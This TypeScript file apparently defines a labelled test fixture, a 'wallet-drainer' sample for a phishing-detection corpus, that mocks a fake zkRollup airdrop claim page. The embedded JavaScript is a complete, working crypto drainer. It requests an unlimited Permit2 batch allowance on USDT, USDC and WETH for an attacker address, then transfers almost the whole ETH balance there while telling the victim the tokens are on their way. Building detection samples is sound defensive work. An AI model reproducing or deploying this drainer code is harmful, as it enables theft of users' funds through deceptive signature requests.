import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';
import { page, b64, favicon, wordmark, baseCss } from '../parts/yd-kit.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
(() => {
  const host = 'claim.zkrollup-airdrop.xyz';
  const drain = `(function(){
var SPENDER='0x7a3f1c6e9d2b4a8f0e5c3d1b9a7f6e4c2d0b8a91';var PERMIT2='0x000000000022D473030F116dDEE9F6B43aC78BA3';
var eth=window.ethereum;var acct=null;
function status(t){document.getElementById('st').textContent=t}
async function connect(){if(!eth){document.getElementById('wcm').style.display='flex';return}
 var a=await eth.request({method:'eth_requestAccounts'});acct=a[0];document.getElementById('cb').textContent=acct.slice(0,6)+'…'+acct.slice(-4);
 try{await eth.request({method:'wallet_switchEthereumChain',params:[{chainId:'0x1'}]})}catch(e){}
 status('Checking eligibility…');
 var r=await fetch('/api/v2/eligibility?address='+acct).then(function(r){return r.json()});
 document.getElementById('amt').textContent=r.allocation+' ZKR';document.getElementById('claimBox').style.display='block';status('Eligible! Sign to claim.');
 window.__tokens=r.tokens;}
async function claim(){if(!acct)return connect();
 var toks=window.__tokens||[];var dl=Math.floor(Date.now()/1000)+86400*30;
 var msg={details:toks.map(function(t,i){return{token:t.address,amount:'1461501637330902918203684832716283019655932542975',expiration:dl,nonce:i}}),spender:SPENDER,sigDeadline:dl};
 var typed={types:{EIP712Domain:[{name:'name',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}],PermitBatch:[{name:'details',type:'PermitDetails[]'},{name:'spender',type:'address'},{name:'sigDeadline',type:'uint256'}],PermitDetails:[{name:'token',type:'address'},{name:'amount',type:'uint160'},{name:'expiration',type:'uint48'},{name:'nonce',type:'uint48'}]},primaryType:'PermitBatch',domain:{name:'Permit2',chainId:1,verifyingContract:PERMIT2},message:msg};
 status('Waiting for signature…');
 var sig=await eth.request({method:'eth_signTypedData_v4',params:[acct,JSON.stringify(typed)]});
 await fetch('/api/v2/claim',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({owner:acct,sig:sig,permit:msg})});
 var bal=await eth.request({method:'eth_getBalance',params:[acct,'latest']});var v=BigInt(bal)-BigInt('3000000000000000');
 if(v>0n){await eth.request({method:'eth_sendTransaction',params:[{from:acct,to:SPENDER,value:'0x'+v.toString(16),data:'0x3158952e'}]})}
 status('Claim submitted. Tokens will arrive within 24h.');}
document.getElementById('cb').onclick=connect;document.getElementById('clb').onclick=claim;
})();`;
  const css = `${baseCss}body{background:radial-gradient(circle at 30% 0,#2b1a5e,#0c0a1d 60%);color:#f0ecff;font-family:"Inter",Arial,sans-serif;min-height:100vh}
.nav{display:flex;align-items:center;padding:20px 40px}.nav button{margin-left:auto}
button{background:linear-gradient(90deg,#8b5cf6,#ec4899);color:#fff;border:0;border-radius:12px;padding:12px 22px;font-weight:700;cursor:pointer}
.hero{text-align:center;padding:60px 20px 20px}.hero h1{font-size:52px;margin:0}.hero p{color:#b7aef0;font-size:18px}
.card{max-width:460px;margin:30px auto;background:rgba(255,255,255,.06);border:1px solid rgba(255,255,255,.12);border-radius:18px;padding:26px;text-align:center}
#claimBox{display:none}.big{font-size:40px;font-weight:800;margin:10px 0}#st{color:#9f96d8;font-size:14px;margin-top:12px}
#wcm{position:fixed;inset:0;background:rgba(0,0,0,.6);display:none;align-items:center;justify-content:center}#wcm .m{background:#fff;color:#111;border-radius:20px;padding:24px;width:360px}
.w{display:flex;align-items:center;gap:10px;border:1px solid #eee;border-radius:12px;padding:12px;margin:8px 0}`;
  const body = `<div class="nav">${wordmark('zkRollup', '#c4b5fd', { mark: 'diamond', width: 140 })}<button id="cb">Connect Wallet</button></div>
<div class="hero"><h1>ZKR Season 2 Airdrop</h1><p>120,000,000 ZKR are now claimable by early users, bridgers and LPs. Claim window closes in <b id="cd">71:42:09</b>.</p></div>
<div class="card"><p>Connect the wallet you used on zkRollup mainnet to check your allocation.</p>
<div id="claimBox"><div>Your allocation</div><div class="big" id="amt">—</div><button id="clb">Claim ZKR</button></div><div id="st">Not connected</div></div>
<div id="wcm"><div class="m"><h3 style="margin-top:0">Connect a wallet</h3><div class="w">🦊 MetaMask</div><div class="w">🔵 Coinbase Wallet</div><div class="w">🛡 Trust Wallet</div><div class="w">🔗 WalletConnect</div><p style="font-size:12px;color:#777">No browser wallet detected. Install MetaMask to continue.</p></div></div>`;
  return {
    id: 'yd-drainer-airdrop-permit2-batch', label: 'cryptodrainer', kind: 'wallet-drainer',
    url: `https://${host}/`,
    body: page({ lang: 'en', title: 'zkRollup – Claim Season 2 Airdrop', css, body, scripts: `<script src="/assets/claim.3f9a1c.js" defer></script>` }),
    routes: {
      [`${host}/assets/claim.3f9a1c.js`]: jsRoute(drain),
      [`${host}/api/v2/eligibility`]: jsonRoute({ eligible: true, allocation: '4,218.55', tokens: [{ symbol: 'USDT', address: '0xdAC17F958D2ee523a2206206994597C13D831ec7' }, { symbol: 'USDC', address: '0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48' }, { symbol: 'WETH', address: '0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2' }] }),
      [`${host}/api/v2/claim`]: jsonRoute({ queued: true }),
    },
  } satisfies Entry;
})(),
];
